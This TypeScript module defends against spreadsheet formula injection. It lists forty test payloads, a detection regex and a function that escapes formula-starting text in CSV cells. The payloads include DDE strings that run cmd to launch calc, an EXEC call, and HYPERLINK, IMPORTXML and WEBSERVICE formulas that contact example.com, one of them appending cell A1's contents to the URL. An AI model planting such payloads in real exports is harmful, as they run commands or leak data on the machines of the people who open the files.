/** Forty texts that spreadsheets are known to evaluate, some with characters in front that they skip. */
export const FORMULA_PAYLOADS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@cmd|'/C calc'!A0",
  '=HYPERLINK("http://example.com/?x="&A1,"open")',
  '=IMPORTXML("http://example.com","//a")',
  '=WEBSERVICE("http://example.com")',
  '=DDE("cmd";"/C calc";"x")',
  "=2+5+cmd|' /C calc'!A0",
  '=EXEC("calc")',
  "=SUM(A1:A9)*2",
  "-2+3+cmd|' /C calc'!A0",
  " =1+1",
  "   =1+1",
  "\t=1+1",
  "\n=1+1",
  "\r=1+1",
  "\r\n=1+1",
  " \t \n=1+1",
  "\u00a0=1+1",
  "\u00a0 \u00a0+1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u200d\u200e=1+1",
  "\u2060@SUM(1,1)",
  "\u202e=1+1",
  "\u3000=1+1",
  "\u2003\u2009-1+1",
  "\u000b=1+1",
  "\u007f=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(1,1)",
  " \uff1d1+1",
  '="a","b",\n=1+1',
];

/** Matches a text that a spreadsheet may evaluate when it is a cell. */
export const BEGINS_FORMULA = /^[\p{Z}\p{C}]*[-=+@\uff0b\uff0d\uff1d\uff20]/u;

/**
 * The text as CSV must hold it: an apostrophe before a formula, at its start and wherever another separator would
 * begin a cell.
 */
export function guarded(text: string): string {
  const parts = text.split(/(?<=[;\t\n\r])/);
  const rests = parts.map((_, index) => parts.slice(index).join(""));
  return parts.map((part, index) => (BEGINS_FORMULA.test(rests[index] ?? "") ? `'${part}` : part)).join("");
}
